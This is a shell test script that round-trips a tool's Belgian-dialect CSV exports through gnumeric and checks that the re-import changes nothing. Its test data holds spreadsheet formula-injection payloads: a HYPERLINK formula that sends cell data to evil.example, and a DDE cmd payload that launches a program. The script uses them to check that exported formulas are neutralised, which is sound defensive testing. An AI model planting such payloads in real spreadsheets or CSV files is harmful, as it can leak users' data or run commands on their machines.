#!/bin/sh
# The CSV round trip through a real spreadsheet program, as a Belgian desk
# does it: export a kind for Excel (--dialect excel-be: ';', CP1252), open it
# in gnumeric under nl_BE.UTF-8 and save it as .xlsx (ssconvert), save that
# again as ';'-separated CP1252 CSV, import it: nothing changes (the
# database's dump is the same byte for byte, the import adds and changes
# nothing).  The database holds hostile texts first: formulas, a phone
# number, a lone '-', '@...', a tab before '='.
#
# What gnumeric does by design, and how this test deals with it:
# - it guesses the separator from the first quoted field of the file (the
#   character before it, or two after it when that one is punctuation):
#   every export here holds quoted fields that lead it to ';';
# - its command-line CSV writer quotes only what holds the separator of its
#   settings (',' unless set), so a text holding ';' would be split: the
#   desk's settings here say ';' (GSettings keyfile in a private
#   XDG_CONFIG_HOME), as the save dialog does when a person picks ';';
# - it reads a leading apostrophe as "this cell is text" and drops it, so it
#   never saves the apostrophe the export puts before a formula (the import
#   gets the text itself), and 's-Hertogenbosch comes back as
#   s-Hertogenbosch: t_apostrophe checks exactly that and nothing else;
# - it saves values in its "automatic" formats, as a desk that saves as CSV
#   does: under nl_BE a date comes back as 2018/06/04 (and a month as
#   2019/12), forms the importer reads as ISO.  ("preserve" would keep
#   gnumeric's own display format of an imported ISO text, "2018-jun-04",
#   which no Belgian spreadsheet writes.)
set -u
: "${IRDESK:?IRDESK must name the binary}"
ROOT=$(mktemp -d "${TMPDIR:-/tmp}/irdesk-sheet.XXXXXX")
trap 'rm -rf "$ROOT"' EXIT
FAILED=0
export HOME="$ROOT/home" XDG_CONFIG_HOME="$ROOT/home/config" XDG_DATA_HOME="$ROOT/home/data" \
    GSETTINGS_BACKEND=keyfile LANGUAGE=
unset IRDESK_DB
mkdir -p "$XDG_CONFIG_HOME/glib-2.0/settings"
printf '[org/gnome/gnumeric/stf/export]\nseparator=%s\n' "';'" \
    >"$XDG_CONFIG_HOME/glib-2.0/settings/keyfile"

fail() { echo "    FAIL: $*" >&2; FAILED=1; }

# No silent skip: without the spreadsheet or its locale the test fails.
if ! command -v ssconvert >/dev/null 2>&1; then
    echo "FAIL: ssconvert (gnumeric) is not installed: run tools/deps.sh check" >&2
    exit 1
fi
if [ "$(LC_ALL=nl_BE.UTF-8 locale charmap 2>/dev/null)" != UTF-8 ]; then
    echo "FAIL: the nl_BE.UTF-8 locale is missing: run tools/deps.sh check" >&2
    exit 1
fi
export LC_ALL=nl_BE.UTF-8

ird() { "$IRDESK" --lang en --db "$DB" "$@"; }
dump() { sqlite3 "$DB" .dump; }

# CSV (UTF-8) -> .xlsx -> ';'-separated CP1252 CSV, as gnumeric saves it.
sheet() { # in.csv out.csv
    ssconvert -I Gnumeric_stf:stf_csvtab -E CP1252 "$1" "$1.xlsx" >"$1.log" 2>&1 &&
        ssconvert -T Gnumeric_stf:stf_assistant \
            -O 'separator=; format=automatic charset=CP1252 eol=windows' \
            "$1.xlsx" "$2" >>"$1.log" 2>&1 ||
        { fail "ssconvert failed on $1: $(cat "$1.log")"; return 1; }
}

# Export kind $1, through the spreadsheet, import: nothing may change.
round_trip() {
    k=$1
    before=$(dump)
    ird export "$k" --format csv --dialect excel-be -o "$W/$k.csv" 2>"$W/err" ||
        { fail "export $k: $(cat "$W/err")"; return; }
    sheet "$W/$k.csv" "$W/$k.back.csv" || return
    if ! ird import "$k" "$W/$k.back.csv" --encoding CP1252 >"$W/out" 2>"$W/err"; then
        fail "$k: the file gnumeric saved does not import: $(cat "$W/err")"
        if grep -q "is not a date" "$W/err"; then
            echo "    (the importer must read the dates as gnumeric writes them)" >&2
        fi
        return
    fi
    grep -q "Imported: 0 added, 0 changed," "$W/out" ||
        fail "$k: the import changed something: $(cat "$W/out")"
    [ "$(dump)" = "$before" ] || fail "$k: the database changed in the round trip"
}

# Hostile texts, put in through irdesk itself (so that check still passes).
prepare() {
    W="$ROOT/$1"
    mkdir -p "$W"
    DB="$W/t.db"
    "$IRDESK" init "$DB" >/dev/null 2>&1 || fail "init $DB"
    printf '%s\r\n' 'id,name_en,name_native,decision,notes' \
        '1,"=HYPERLINK(""http://evil.example/?d=""&A1,""klik"")",,-,"+31 9 123 45 67"' \
        '2,=cmd|'"'"' /C calc'"'"'!A0,-5,"=1+2;",@SUM(1+1)' \
        >"$W/city.csv"
    printf 'id,notes\r\n3,"\t=2+3"\r\n' >>"$W/city-tab.csv"
    printf '%s\r\n' 'id,party,fate' '3,=Gent,"+ een MoU, - geen clausule"' \
        '4,@Melle,-' >"$W/agreement.csv"
    printf '%s\r\n' 'id,notes' '1,-' '2,"=""x"""' >"$W/network.csv"
    printf '%s\r\n' 'id,title_en' '1,=A1*2' '2,"+3,5"' >"$W/initiative.csv"
    for f in city city-tab agreement network initiative; do
        ird import "${f%-tab}" "$W/$f.csv" >"$W/out" 2>"$W/err" ||
            fail "setting hostile values ($f): $(cat "$W/err")"
    done
    ird check >"$W/out" 2>&1 || fail "check after the hostile values: $(cat "$W/out")"
    [ "$(sqlite3 "$DB" "SELECT name_en FROM city WHERE id = 2")" = "=cmd|' /C calc'!A0" ] ||
        fail "the hostile name was not stored as given"
}

t_each_kind_comes_back_unchanged() {
    prepare kinds
    # the export guards the formulas, not the numbers
    ird export city --format csv --dialect excel-be -o "$W/probe.csv" 2>/dev/null
    for cell in "^2;[0-9]*;[a-z_]*;0;[^;]*;'=cmd|' /C calc'!A0;'-5;" ";\"'=1+2;\";[^;]*;'@SUM" \
        "^2;[0-9]*;[a-z_]*;0;[^;]*;[^;]*;[^;]*;[^;]*;[^;]*;[a-z]*;1969;"; do
        grep -aq -- "$cell" "$W/probe.csv" ||
            fail "the Excel export lacks $cell: $(grep -a '^2;' "$W/probe.csv")"
    done
    for k in city network initiative agreement; do
        round_trip "$k"
    done
    # what gnumeric held were texts, never formulas it ran
    grep -aq '=cmd|' "$W/city.back.csv" || fail "gnumeric did not keep the formula as text"
}

t_apostrophe() {
    prepare apostrophe
    printf 'id,name_en\r\n5,'"'"'s-Hertogenbosch\r\n' >"$W/bosch.csv"
    ird import city "$W/bosch.csv" >/dev/null 2>&1 || fail "setting 's-Hertogenbosch"
    ird export city --format csv --dialect excel-be -o "$W/city.csv" 2>/dev/null
    # the export keeps the name's own apostrophe and adds none
    grep -aq "^5;[0-9]*;[a-z_]*;0;[^;]*;'s-Hertogenbosch;" "$W/city.csv" ||
        fail "the export changed 's-Hertogenbosch: $(grep -a '^5;' "$W/city.csv")"
    sheet "$W/city.csv" "$W/city.back.csv" || return
    # gnumeric drops it on reading (its text marker): the one difference
    grep -aq '^5;[0-9]*;[a-z_]*;0;[^;]*;s-Hertogenbosch;' "$W/city.back.csv" ||
        fail "gnumeric no longer drops the leading apostrophe: make this a plain round trip"
    sed 's/;s-Hertogenbosch;/;'"'"'s-Hertogenbosch;/' "$W/city.back.csv" >"$W/city.fixed.csv"
    cmp -s "$W/city.fixed.csv" "$W/city.back.csv" && fail "no line to put the apostrophe back in"
    before=$(dump)
    ird import city "$W/city.fixed.csv" --encoding CP1252 >"$W/out" 2>"$W/err" || fail "import: $(cat "$W/err")"
    grep -q "Imported: 0 added, 0 changed," "$W/out" ||
        fail "more than the apostrophe changed: $(cat "$W/out")"
    [ "$(dump)" = "$before" ] || fail "the database changed"
}

for t in t_each_kind_comes_back_unchanged t_apostrophe; do
    echo "== $t"
    $t
done
if [ "$FAILED" != 0 ]; then
    echo "FAIL: the spreadsheet round trip changed data (see above)" >&2
    exit 1
fi
echo "ok: the spreadsheet round trip changes nothing"
